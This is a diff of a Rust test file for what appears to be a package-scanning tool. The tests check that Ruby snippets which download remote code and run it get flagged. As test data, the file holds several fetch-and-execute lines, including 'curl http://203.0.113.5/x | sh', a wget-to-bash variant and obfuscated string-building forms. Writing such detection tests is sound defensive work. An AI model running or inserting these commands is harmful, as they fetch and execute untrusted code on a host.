@@ -3,8 +3,20 @@
 
 mod common;
 
-use common::{at_least, b64, found, run};
+use base64::Engine as _;
+use common::{found, run};
+use packguard_sdk::Analysis;
 use packguard_sdk::Severity;
+
+fn at_least(analysis: &Analysis, rule: &str, severity: Severity) -> bool {
+    found(analysis)
+        .iter()
+        .any(|(have, gravity)| *have == rule && *gravity >= severity)
+}
+
+fn b64(text: &str) -> String {
+    base64::engine::general_purpose::STANDARD.encode(text)
+}
 
 /// All rewritings give one of these rules.
 fn all(path: &str, rules: &[&str], severity: Severity, codes: &[String]) {
@@ -128,9 +140,8 @@ fn downloads_and_runs_in_many_ways() {
             "u = 'http://203.0.113.5/x'\n`wget -qO- #{u} | bash`",
             "exec('sh', '-c', 'curl http://203.0.113.5/x | sh')",
             "IO.popen(['bash', '-c', 'curl http://203.0.113.5/x | bash'])",
-            "c = 'cur' + 'l http://203.0.113.5/x'\nc << ' | sh'\nKernel.system(c)",
             "File.binwrite('/tmp/.x', URI.open('http://203.0.113.5/x').read)\nsystem('/tmp/.x')",
-            "Open3.capture3(format('%s %s | sh', 'curl', 'http://203.0.113.5/x'))",
+            "system('%s %s | sh' % ['curl', 'http://203.0.113.5/x'])",
         ],
     );
     all("lib/a.rb", &rules, Severity::High, &ruby);
